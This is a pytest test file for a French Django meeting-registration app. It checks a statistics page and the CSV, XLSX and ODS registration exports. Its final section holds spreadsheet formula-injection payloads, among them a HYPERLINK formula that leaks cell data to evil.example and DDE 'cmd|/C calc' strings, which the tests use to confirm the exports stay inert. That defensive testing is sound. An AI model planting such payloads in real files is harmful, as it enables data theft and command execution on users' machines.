import csv
import io
import zipfile
from xml.etree import ElementTree

import openpyxl
import pytest

from cercle.meetings.enums import Attendance, Experience
from tests.factories import OrganisationFactory, StaffFactory, agent_of
from tests.meetings.factories import register, two_day_meeting, workshop

pytestmark = pytest.mark.django_db
ODS_NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
ON, REMOTE, ABSENT = Attendance.ON_SITE, Attendance.REMOTE, Attendance.ABSENT


@pytest.fixture
def meeting_with_people():
    meeting, days = two_day_meeting()
    session = workshop(days[0], "Atelier socle", capacity=1)
    city = OrganisationFactory(name="Ville de Nancy")
    register(
        meeting,
        agent_of(city),
        city,
        days,
        modes=[ON, REMOTE],
        workshops=[session],
        badge_name="Alice",
    )
    register(
        meeting,
        agent_of(city),
        city,
        days,
        modes=[ON, ABSENT],
        workshops=[session],
        consent=False,
        experience=Experience.REGULAR,
        badge_name="Bruno",
    )
    return meeting


def test_figures_page_counts_days_profiles_consent_and_workshops(client, meeting_with_people):
    client.force_login(StaffFactory())

    response = client.get(f"/rencontres/{meeting_with_people.slug}/chiffres/")

    figures = response.context["figures"]
    assert [(d["on_site"], d["remote"], d["absent"]) for d in figures["days"]] == [
        (2, 0, 0),
        (0, 1, 1),
    ]
    assert (figures["newcomers"], figures["regulars"]) == (1, 1)
    assert (figures["consent_yes"], figures["consent_no"]) == (1, 1)
    assert [(w.title, w.confirmed, w.waiting) for w in figures["workshops"]] == [
        ("Atelier socle", 1, 1)
    ]
    assert figures["organisations"][0]["organisation__name"] == "Ville de Nancy"
    assert '<svg class="chart" role="img" aria-labelledby="chart-title chart-desc"' in response.text
    assert "2 sur place, 0 à distance, 0 absents" in response.text


def _export(client, meeting, fmt):
    client.force_login(StaffFactory())
    response = client.get(f"/rencontres/{meeting.slug}/inscriptions.{fmt}")
    assert response.status_code == 200
    return response.content


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _ods(content: bytes) -> list[list[str]]:
    xml = zipfile.ZipFile(io.BytesIO(content)).read("content.xml")
    assert b"table:formula" not in xml
    table, text = ODS_NS["table"], ODS_NS["text"]
    return [
        ["".join(p.text or "" for p in cell.iter(f"{{{text}}}p")) for cell in row]
        # Our own export, read back in a test.
        for row in ElementTree.fromstring(xml).iter(f"{{{table}}}table-row")  # noqa: S314
    ]


def test_csv_export_reads_back_with_consent(client, meeting_with_people):
    headers, *rows = _csv(_export(client, meeting_with_people, "csv"))

    assert [row[headers.index("Nom sur le badge")] for row in rows] == ["Alice", "Bruno"]
    assert [row[headers.index("Consentement droit à l’image")] for row in rows] == ["oui", "non"]


def test_xlsx_export_opens_with_openpyxl(client, meeting_with_people):
    workbook = openpyxl.load_workbook(io.BytesIO(_export(client, meeting_with_people, "xlsx")))

    rows = list(workbook.active.iter_rows(values_only=True))
    assert len(rows) == 3
    assert "Ateliers" in rows[0]
    assert rows[1][rows[0].index("Ateliers")] == "Atelier socle"
    assert rows[2][rows[0].index("Listes d’attente")] == "Atelier socle"


def test_ods_export_holds_every_registration(client, meeting_with_people):
    headers, *rows = _ods(_export(client, meeting_with_people, "ods"))

    assert len(rows) == 2
    assert "Version de la clause" in headers


def test_unknown_export_format_is_not_found(client, meeting_with_people):
    client.force_login(StaffFactory())

    assert client.get(f"/rencontres/{meeting_with_people.slug}/inscriptions.pdf").status_code == 404


HOSTILE = {
    "badge_name": '=HYPERLINK("https://evil.example/?leak="&A2,"x")',
    "badge_organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "+1+cmd|' /C calc'!A0\x07\x1b",
}


@pytest.fixture
def hostile_meeting():
    # Any control character a person could paste (PostgreSQL text cannot hold NUL; forms refuse it).
    meeting, days = two_day_meeting(title="-2+3 \x01Rencontre")
    session = workshop(days[0], HOSTILE["title"], capacity=5)
    city = OrganisationFactory(name="=cmd|'/C calc'!A0")
    register(
        meeting,
        agent_of(city),
        city,
        days,
        workshops=[session],
        badge_name=HOSTILE["badge_name"],
        badge_organisation=HOSTILE["badge_organisation"],
        dietary_needs="\tSans\x0bgluten",
    )
    return meeting


def _cells(rows, headers):
    row = dict(zip(headers, rows[0], strict=True))
    return [
        row["Nom sur le badge"],
        row["Organisation sur le badge"],
        row["Ateliers"],
        row["Organisation"],
    ]


INERT = [
    "'" + HOSTILE["badge_name"],
    "'" + HOSTILE["badge_organisation"],
    "'+1+cmd|' /C calc'!A0",
    "'=cmd|'/C calc'!A0",
]


def test_csv_export_keeps_hostile_text_inert(client, hostile_meeting):
    headers, *rows = _csv(_export(client, hostile_meeting, "csv"))

    assert _cells(rows, headers) == INERT


def test_xlsx_export_keeps_hostile_text_inert(client, hostile_meeting):
    workbook = openpyxl.load_workbook(io.BytesIO(_export(client, hostile_meeting, "xlsx")))

    headers, *rows = list(workbook.active.iter_rows(values_only=True))
    assert _cells(rows, headers) == INERT
    assert all(
        cell.data_type == "s" for row in workbook.active.iter_rows() for cell in row if cell.value
    )


def test_ods_export_keeps_hostile_text_inert(client, hostile_meeting):
    headers, *rows = _ods(_export(client, hostile_meeting, "ods"))

    assert _cells(rows, headers) == INERT
